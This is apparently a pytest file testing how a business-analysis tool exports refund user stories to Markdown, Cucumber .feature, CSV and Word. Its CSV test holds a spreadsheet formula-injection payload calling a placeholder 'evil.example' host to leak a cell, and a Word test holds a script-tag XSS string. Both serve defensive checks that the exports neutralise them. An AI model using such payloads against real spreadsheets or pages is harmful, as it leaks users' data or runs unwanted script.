"""Markdown, .feature and CSV exports of artifacts: what a team's tools will read."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import docx
import pytest
from gherkin.parser import Parser
from gherkin.token_scanner import TokenScanner

from ba_assistant.agent.offline_content import Passage, artifact_template
from ba_assistant.artifacts.export import ExportSource, to_csv, to_feature, to_markdown
from ba_assistant.artifacts.word import to_docx
from ba_assistant.errors import Unprocessable

TWO_STORIES = """# Refunds

## Story 1: Customer

As a customer, I want to request a **partial refund** from my order history, so that I keep \
the items I like.

```gherkin
Scenario: Refund one item of three
  Given a delivered order of 3 items totalling €120.00
  When the customer refunds one item of €40.00
  Then €40.00 goes back to the original card
  And the order shows "Partly refunded"

Scenario: Refund more than is left
  Given an order with €10.00 left to refund
  When the customer asks for €20.00
  Then the request is refused with "You can refund at most €10.00"
```

Priority: Must

## Story 2: Support agent

As a support agent, I want to approve refunds above £500, so that fraud is caught early.

Scenario: Approval above the limit
  Given a refund request of £620.00
  When the agent approves it
  Then the refund is sent

Priority: Could
"""


def source(content: str, title: str = "Refunds", kind: str = "user_story") -> ExportSource:
    return ExportSource(
        title=title,
        type=kind,
        content=content,
        project="Shop — café ☕",
        version=3,
        exported_on=date(2026, 11, 25),
    )


class TestMarkdown:
    def test_has_a_small_header_and_the_content_once(self) -> None:
        text = to_markdown(source(TWO_STORIES))
        assert text.startswith(
            "# Refunds\n\n*Project:* Shop — café ☕ · *Type:* User story · *Version:* 3 · "
            "*Exported:* 2026-11-25\n\n---\n\n## Story 1: Customer"
        )
        assert text.count("# Refunds") == 1
        assert "Scenario: Refund one item of three" in text


class TestFeature:
    def test_the_story_is_the_description_and_each_scenario_a_scenario(self) -> None:
        feature = to_feature(source(TWO_STORIES))
        assert feature.splitlines()[:4] == [
            "Feature: Refunds",
            "  As a customer",
            "  I want to request a partial refund from my order history",
            "  So that I keep the items I like",
        ]
        assert "  Scenario: Refund one item of three\n    Given a delivered order" in feature
        assert feature.count("  Scenario: ") == 3
        assert '    And the order shows "Partly refunded"' in feature
        assert "**" not in feature and "```" not in feature

    def test_cucumbers_own_parser_reads_the_scenarios_and_steps(self) -> None:
        parsed = Parser().parse(TokenScanner(to_feature(source(TWO_STORIES))))["feature"]
        assert parsed["name"] == "Refunds"
        assert "I want to request a partial refund" in parsed["description"]
        scenarios = [child["scenario"] for child in parsed["children"]]
        assert [s["name"] for s in scenarios] == [
            "Refund one item of three",
            "Refund more than is left",
            "Approval above the limit",
        ]
        assert [step["keyword"].strip() for step in scenarios[0]["steps"]] == [
            "Given",
            "When",
            "Then",
            "And",
        ]
        assert scenarios[0]["steps"][3]["text"] == 'the order shows "Partly refunded"'

    def test_outlines_backgrounds_tables_and_doc_strings_survive(self) -> None:
        content = """# Refund limits

```gherkin
Background:
  Given the customer is signed in

Scenario Outline: Refund up to what is left
  Given an order with <left> left to refund
  When the customer asks for <asked>
  Then the answer is <answer>

  Examples:
    | left | asked | answer  |
    | €10  | €5    | refunded |
    | €10  | €20   | refused  |

Scenario: Items chosen
  Given these items:
    | item | price |
    | mug  | €8    |
  When the customer refunds them
  Then the email says:
    \"\"\"
    Your refund of €8.00 is on its way.
    \"\"\"
```
"""
        feature = to_feature(source(content, "Refund limits", "acceptance_criteria"))
        parsed = Parser().parse(TokenScanner(feature))["feature"]
        background, outline, plain = (next(iter(c.values())) for c in parsed["children"])
        assert background["keyword"] == "Background"
        assert background["steps"][0]["text"] == "the customer is signed in"
        assert outline["keyword"] == "Scenario Outline"
        [examples] = outline["examples"]
        assert [cell["value"] for cell in examples["tableHeader"]["cells"]] == [
            "left",
            "asked",
            "answer",
        ]
        assert [[c["value"] for c in row["cells"]] for row in examples["tableBody"]] == [
            ["€10", "€5", "refunded"],
            ["€10", "€20", "refused"],
        ]
        table = plain["steps"][0]["dataTable"]["rows"]
        assert [[c["value"] for c in row["cells"]] for row in table] == [
            ["item", "price"],
            ["mug", "€8"],
        ]
        assert plain["steps"][2]["docString"]["content"] == "Your refund of €8.00 is on its way."

    def test_without_scenarios_it_is_422_and_says_why(self) -> None:
        with pytest.raises(Unprocessable, match="no Given/When/Then scenarios"):
            to_feature(source("# Notes\n\nJust notes.", kind="custom"))

    def test_the_offline_assistants_criteria_export(self) -> None:
        conversation = [
            ("user", "Customers want to request a partial refund from their order history page.")
        ]
        title, content = artifact_template("acceptance_criteria", conversation, [])
        feature = to_feature(source(content, title, "acceptance_criteria"))
        assert feature.startswith(f"Feature: {title}\n")
        assert feature.count("  Scenario: ") >= 2


class TestCsv:
    def test_one_row_per_story_for_jira_and_azure_devops(self) -> None:
        data = to_csv(source(TWO_STORIES))
        assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the accents
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert rows[0] == [
            "Work Item Type",
            "Title",
            "Description",
            "Acceptance Criteria",
            "Priority",
            "Tags",
        ]
        assert [(r[0], r[1], r[4], r[5]) for r in rows[1:]] == [
            ("User Story", "Request a partial refund from my order history", "1", "MoSCoW-Must"),
            ("User Story", "Approve refunds above £500", "3", "MoSCoW-Could"),
        ]
        assert rows[1][2] == (
            "As a customer, I want to request a partial refund from my order history, "
            "so that I keep the items I like."
        )
        criteria = rows[1][3]
        assert criteria.startswith("Scenario: Refund one item of three\nGiven a delivered order")
        assert "Scenario: Refund more than is left" in criteria
        assert "Approval above the limit" not in criteria  # that belongs to story 2
        assert '"Partly refunded"' in criteria
        assert b'"User Story","Request a partial' in data  # every field quoted
        assert b"\r\n" in data

    def test_cells_excel_would_run_as_formulas_are_defused(self) -> None:
        story = (
            'As a user, I want =HYPERLINK("http://evil.example/?"&A1,"Click"), so that x.\n\n'
            "Scenario: -1+1\n  Given @everyone\n  When x\n  Then y\n"
        )
        rows = list(csv.reader(io.StringIO(to_csv(source(story)).decode("utf-8-sig"))))
        assert rows[1][1].startswith("'=HYPERLINK(")
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in rows[1])

    def test_without_stories_it_is_422(self) -> None:
        with pytest.raises(Unprocessable, match="no user stories"):
            to_csv(source("Scenario: x\n  Given y\n  When z\n  Then w", kind="custom"))

    def test_the_offline_assistants_story_exports(self) -> None:
        conversation = [
            ("user", "Customers want to request a partial refund from their order history page.")
        ]
        passages = [Passage("Refund policy.pdf", 3, "Refunds are accepted within 30 days.")]
        title, content = artifact_template("user_story", conversation, passages)
        rows = list(csv.reader(io.StringIO(to_csv(source(content, title)).decode("utf-8-sig"))))
        assert len(rows) == 2
        assert rows[1][1] == "Request a partial refund from my order history page"
        assert rows[1][3].startswith("Scenario: Happy path")
        assert rows[1][5] == "MoSCoW-Should"


RICH = """# Refund requirements

## Overview

Customers get **partial refunds** and *café* owners see them. 退款 is Chinese for refund.

- First level with `code`
  - Second level
- Back to [the policy](https://example.com/policy)

1. Step one
2. Step two

| Field | Rule |
|---|---|
| Amount | ≤ €500 |
| Reason | required |

```
GET /refunds/{id}
200 OK
```

<script>alert(1)</script>
"""


class TestWord:
    def document(self) -> Any:
        data = to_docx(
            source(RICH, "Refund requirements", "requirements_doc"), author="Ann Analyst"
        )
        return docx.Document(io.BytesIO(data))

    def test_headings_are_words_heading_styles_and_the_title_is_set(self) -> None:
        document = self.document()
        styled = [(p.style.name, p.text) for p in document.paragraphs if p.text]
        assert styled[0] == ("Title", "Refund requirements")
        assert ("Heading 2", "Overview") in styled
        assert document.core_properties.title == "Refund requirements"
        assert document.core_properties.author == "Ann Analyst"

    def test_lists_nest_and_runs_keep_bold_italic_code_and_links(self) -> None:
        document = self.document()
        styled = [(p.style.name, p.text) for p in document.paragraphs if p.text]
        assert ("List Bullet", "First level with code") in styled
        assert ("List Bullet 2", "Second level") in styled
        assert ("List Bullet", "Back to the policy (https://example.com/policy)") in styled
        assert [t for s, t in styled if s == "List Number"] == ["Step one", "Step two"]
        overview = next(p for p in document.paragraphs if p.text.startswith("Customers"))
        assert [r.text for r in overview.runs if r.bold] == ["partial refunds"]
        assert [r.text for r in overview.runs if r.italic] == ["café"]
        assert "退款" in overview.text
        code = next(p for p in document.paragraphs if p.text.startswith("First level"))
        assert [r.font.name for r in code.runs if r.text == "code"] == ["Consolas"]

    def test_tables_are_real_tables_with_a_bold_header(self) -> None:
        [table] = self.document().tables
        cells = [[cell.text for cell in row.cells] for row in table.rows]
        assert cells == [["Field", "Rule"], ["Amount", "≤ €500"], ["Reason", "required"]]
        assert all(run.bold for run in table.rows[0].cells[0].paragraphs[0].runs)

    def test_each_numbered_list_counts_from_its_own_start(self) -> None:
        data = to_docx(
            source("1. a\n2. b\n\nBetween.\n\n1. c\n2. d\n\nAgain.\n\n5. five\n6. six\n"),
            author="Ann",
        )
        document = docx.Document(io.BytesIO(data))
        items = [p for p in document.paragraphs if p.style.name == "List Number"]
        assert [p.text for p in items] == ["a", "b", "c", "d", "five", "six"]
        ids = [p._p.pPr.numPr.numId.val for p in items]
        assert ids[0] == ids[1] and ids[2] == ids[3] and ids[4] == ids[5]
        assert len({ids[0], ids[2], ids[4]}) == 3  # three lists, not one running on
        numbering = document.part.numbering_part.element
        starts = [
            numbering.num_having_numId(number).xpath("./w:lvlOverride/w:startOverride/@w:val")
            for number in (ids[0], ids[2], ids[4])
        ]
        assert starts == [["1"], ["1"], ["5"]]

    def test_images_become_their_alt_text_and_control_characters_go(self) -> None:
        data = to_docx(
            source("Chart: ![refunds by month](https://example.com/c.png)\n\nTab\x0bbed\x1b."),
            author="Ann\x0c",
        )
        document = docx.Document(io.BytesIO(data))
        texts = [p.text for p in document.paragraphs]
        assert "Chart: [image: refunds by month]" in texts
        assert "Tabbed." in texts
        assert document.core_properties.author == "Ann"

    def test_code_is_monospace_and_raw_html_stays_text(self) -> None:
        document = self.document()
        block = next(p for p in document.paragraphs if p.text.startswith("GET /refunds"))
        assert {r.font.name for r in block.runs} == {"Consolas"}
        texts = " ".join(p.text for p in document.paragraphs)
        assert "<script>alert(1)</script>" in texts  # shown as text, never active
        # Everything appears once and in order.
        order = ["Overview", "Customers", "First level", "Step one", "GET /refunds"]
        positions = [texts.index(word) for word in order]
        assert positions == sorted(positions)
